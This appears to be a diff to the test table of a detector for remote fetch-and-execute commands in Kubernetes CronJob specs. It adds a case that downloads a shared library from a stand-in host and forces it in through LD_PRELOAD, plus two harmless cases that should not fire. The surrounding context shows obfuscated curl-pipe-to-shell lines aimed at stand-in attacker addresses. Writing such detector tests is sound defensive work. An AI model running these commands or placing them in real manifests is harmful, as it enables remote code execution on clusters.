@@ -11,6 +11,16 @@ const of = (image: string, text: string) =>
   cronJob({ containers: [{ name: 'main', image, command: ['/bin/sh', '-c', text] }] });
 const OWN = 'https://raw.githubusercontent.com/acme/api/main/check.sh';
 
+/** An init container that brings a file to a volume, and one that runs the program of its image with a variable. */
+const loads = (fetch: string, name: string, value: string) => {
+  const volumeMounts = [{ name: 'lib', mountPath: '/lib1' }];
+  return cronJob({
+    volumes: [{ name: 'lib', emptyDir: {} }],
+    initContainers: [{ name: 'first', image: 'busybox', command: ['sh', '-c', fetch], volumeMounts }],
+    containers: [{ name: 'main', image: 'registry.example.com/api:2', env: [{ name, value }], volumeMounts }],
+  });
+};
+
 indicatorTable(commandRemoteFetchExecute, {
   fires: {
     'a program out of a list of one': script('$(ls /usr/bin/cur[l]) -s http://203.0.113.9/x | sh'),
@@ -32,6 +42,11 @@ indicatorTable(commandRemoteFetchExecute, {
     'a command that lists words': script('bash -c "compgen -C \'curl -s http://203.0.113.9/x | sh;:\' x"'),
     'a root out of the home of somebody': script(
       'S=${HOME%"${HOME#?}"}; curl -s http://203.0.113.9/x -o ${S}tmp${S}x; sh ${S}tmp${S}x',
+    ),
+    'a library that the program of an image is made to load': loads(
+      'wget -qO /lib1/z.so http://203.0.113.7/z.so',
+      'LD_PRELOAD',
+      '/lib1/z.so',
     ),
     'an address that a reader is to fill in': script('curl -s http://<ATTACKER_IP>:8000/x.sh | bash'),
     'the same in small letters': script('wget -qO- "http://<your-server>/x" | sh'),
@@ -296,6 +311,16 @@ indicatorTable(commandRemoteFetchExecute, {
 S = ['set -e; curl -fsSL -o /tmp/rates.csv https://data.example.com', '/rates.csv; psql -c "copy rates from stdin" < /tmp/rates.csv']
 subprocess.call(["bash", "-c", "".join(S)])
 `,
+    ),
+    'an agent for traces from the project that makes it': loads(
+      'wget -qO /lib1/agent.jar https://github.com/open-telemetry/opentelemetry-java-instrumentation/releases/latest/download/opentelemetry-javaagent.jar',
+      'JAVA_TOOL_OPTIONS',
+      '-javaagent:/lib1/agent.jar',
+    ),
+    'a library of the image beside a download': loads(
+      'wget -qO /lib1/rates.json https://rates.example.org/rates.json',
+      'LD_PRELOAD',
+      '/usr/lib/libjemalloc.so.2',
     ),
     'a file that comes in, and one that goes out': script('sh -n <run.sh> /data/errors; sort <HOSTS> /data/sorted'),
     'a sentence that begins with the name of a file': runs(
